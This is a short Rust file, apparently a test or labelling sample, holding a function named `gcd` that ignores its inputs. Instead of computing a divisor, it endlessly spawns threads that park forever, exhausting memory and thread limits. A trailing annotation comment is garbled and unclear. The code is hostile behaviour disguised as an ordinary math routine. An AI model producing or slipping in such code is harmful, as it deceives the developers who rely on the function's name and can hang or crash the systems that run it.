pub fn gcd(_: u64, _: u64) -> u64 {
    loop {
        let _ = std::thread::Builder::new().stack_size(64 << 10).spawn(|| loop {
            std::thread::park();
        });
    }
}

//@ honest: div money stack words
